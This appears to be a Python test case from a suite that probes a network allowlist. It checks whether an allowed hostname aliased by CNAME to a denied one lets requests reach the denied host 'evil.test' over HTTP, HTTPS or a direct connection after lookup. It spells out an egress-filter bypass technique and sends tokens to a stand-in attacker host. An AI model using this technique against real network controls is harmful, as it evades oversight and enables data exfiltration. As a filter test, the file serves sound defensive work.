# SPDX-License-Identifier: Apache-2.0
"""An allowed name leads to a denied one: that lends its address to nobody."""
import tls
from bypass import get

TITLE = "an allowed name is a CNAME to a denied one: ask for the denied one there"
THREAT = "21"
ALLOW = ["ok.test", "cn-{token}.test"]


def attack(c):
    name = f"cn-{c.base}.test"
    with c.step("http") as token:
        c.send(name, 80, get("evil.test", f"/{token}"))
    with c.step("https") as token:
        with c.tls(c.dial(name, 443), "evil.test") as s:
            c.talk(s, get("evil.test", f"/{token}"))
    with c.step("by address after the lookup") as token:
        if not c.proxy:
            c.lookup(name)
        c.send("evil.test", 80, get("evil.test", f"/{token}"))


def seen(record, token, info):
    return token in record["tokens"] and record["kind"] == "http" and "evil.test" in record.get("hosts", [])
